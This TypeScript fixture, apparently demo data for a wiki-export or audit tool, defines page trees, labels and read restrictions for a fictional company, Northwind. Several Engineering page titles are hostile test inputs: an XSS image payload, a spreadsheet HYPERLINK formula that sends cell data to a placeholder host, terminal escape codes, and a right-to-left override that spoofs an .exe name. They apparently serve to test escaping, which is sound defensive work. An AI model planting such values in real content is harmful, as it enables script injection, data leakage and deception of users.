// SPDX-License-Identifier: Apache-2.0
import { PageStatus } from '../types';
import { policyText } from './policyText';

export interface DemoPage {
  title: string;
  labels?: readonly string[];
  status?: PageStatus;
  author?: string;
  owner?: string;
  /** Read restriction: account names and group slugs. */
  readAccounts?: readonly string[];
  readGroups?: readonly string[];
  updateGroups?: readonly string[];
  /** What stands on it, in storage format. */
  text?: string;
  children?: readonly DemoPage[];
}

const page = (title: string, more: Omit<DemoPage, 'title'> = {}): DemoPage => ({
  title,
  ...more,
});

const policy = (
  title: string,
  label: string,
  more: Omit<DemoPage, 'title'> = {},
): DemoPage =>
  page(title, {
    labels: ['policy', label],
    author: 'farid.castellan',
    updateGroups: ['security'],
    text: policyText(title),
    ...more,
  });

const LONG_TITLE = `Runbook ${'of the very long name '.repeat(20)}`
  .slice(0, 254)
  .concat('!');

/** The page trees of Northwind by space key; the first page of a tree is the home page. */
export const DEMO_PAGES: Readonly<Record<string, DemoPage>> = {
  POL: page('Policies', {
    author: 'farid.castellan',
    children: [
      policy('Information Security Policy', 'policy-infosec', {
        owner: 'ada.lindqvist',
      }),
      policy('Access Control Policy', 'policy-access'),
      policy('Acceptable Use Policy', 'policy-acceptable-use'),
      policy('Incident Response Policy', 'policy-incident', {
        children: [
          page('Incident roles', { labels: ['incident'] }),
          policy('Incident contact list', 'policy-incident-contacts', {
            readGroups: ['security'],
            readAccounts: ['chiara.fontaine'],
            children: [policy('Regulator contacts', 'policy-regulators')],
          }),
        ],
      }),
      policy('Business Continuity Policy', 'policy-continuity'),
      policy('Change Management Policy', 'policy-change'),
      policy('Cryptography Policy', 'policy-crypto'),
      policy('Data Classification Policy', 'policy-data'),
      policy('Vendor Management Policy', 'policy-vendor', {
        owner: 'tamsin.vega',
      }),
      policy('Password Policy (2021)', 'policy-password', {
        status: 'archived',
      }),
      policy('Bring Your Own Device Policy', 'policy-byod', {
        status: 'trashed',
      }),
      policy('Risk Management Policy', 'policy-risk', {
        author: 'victor.amsel',
      }),
      page('Policy review calendar', { labels: ['calendar'] }),
    ],
  }),
  ENG: page('Engineering', {
    author: 'greta.oyelaran',
    children: [
      page('Onboarding', {
        labels: ['onboarding'],
        children: [
          page('First week'),
          page('Your laptop'),
          page('Who to ask'),
          page('Reading list'),
        ],
      }),
      page('Architecture', {
        labels: ['architecture'],
        children: [
          page('Service map'),
          page('Orders service'),
          page('Billing service'),
          page('Search service'),
          page('Decision: one database per service', { labels: ['decision'] }),
          page('Decision: queues before cron', { labels: ['decision'] }),
        ],
      }),
      page('Runbooks', {
        labels: ['runbook'],
        children: [
          page('Restore a database', { labels: ['runbook'] }),
          page('Rotate credentials', {
            labels: ['runbook'],
            readGroups: ['engineering'],
          }),
          page(LONG_TITLE, { labels: ['runbook'] }),
          page('Fail over to the second region', {
            labels: ['runbook'],
            author: 'tamsin.vega',
          }),
        ],
      }),
      page('<img src=x onerror=alert(1)>', {
        labels: ['policy', 'hostile'],
        author: 'hugo.reyes',
      }),
      page('=HYPERLINK("http://example.invalid/?"&A1,"Quarterly numbers")', {
        author: 'hugo.reyes',
      }),
      page('Bell \u0007 and escape \u001b[31m in a title', {
        author: 'hugo.reyes',
      }),
      page('Invoice \u202Efdp.exe', { author: 'hugo.reyes' }),
      page('Meeting notes', {
        children: [
          page('2026-09-01 Platform weekly'),
          page('2026-09-08 Platform weekly'),
          page('2026-09-15 Platform weekly'),
        ],
      }),
      page('Secure development', {
        labels: ['policy', 'policy-sdlc'],
        author: 'greta.oyelaran',
      }),
    ],
  }),
  PPL: page('People and pay', {
    author: 'ines.valcourt',
    children: [
      page('Salary bands', { readGroups: ['people'] }),
      page('Leavers checklist', { labels: ['checklist'] }),
      page('Code of Conduct', {
        labels: ['policy', 'policy-conduct'],
        author: 'ines.valcourt',
      }),
      page('Parental leave'),
    ],
  }),
  HELP: page('Northwind help', {
    author: 'soren.malik',
    children: [
      page('Getting started'),
      page('Reset your password'),
      page('Delivery times'),
      page('Privacy notice', {
        labels: ['policy', 'policy-privacy'],
        author: 'farid.castellan',
      }),
    ],
  }),
  ATLAS: page('Project Atlas', {
    author: 'dmitri.halloran',
    children: [
      page('Atlas plan'),
      page('Atlas budget'),
      page('Atlas retrospective', { labels: ['policy'] }),
    ],
  }),
  '~': page('Ada Lindqvist', {
    author: 'ada.lindqvist',
    children: [page('Notes to self'), page('Draft: passkeys for all')],
  }),
};
